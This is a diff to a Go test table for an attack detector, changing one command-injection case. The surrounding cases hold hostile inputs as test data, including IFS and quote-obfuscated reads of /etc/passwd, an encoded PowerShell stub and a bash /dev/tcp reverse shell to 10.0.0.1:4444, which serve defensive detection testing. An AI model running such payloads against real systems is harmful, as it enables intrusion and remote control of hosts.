@@ -111,7 +111,7 @@ func TestDetectsAttacks(t *testing.T) {
 		{"cmdi ifs", q("cmd", "cat${IFS}/etc/passwd"), CommandInj},
 		{"cmdi quotes", q("x", ";c'a't /etc/passwd"), CommandInj},
 		{"cmdi backslash", q("x", `;w\h\o\a\m\i`), CommandInj},
-		{"cmdi newline", q("x", "foo\nid"), CommandInj},
+		{"cmdi newline", q("x", "foo\nid -u"), CommandInj},
 		{"cmdi windows", q("x", "x & cmd /c dir"), CommandInj},
 		{"cmdi powershell", body("x", "powershell -enc SQBFAFgA"), CommandInj},
 		{"cmdi reverse shell", body("x", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"), CommandInj},
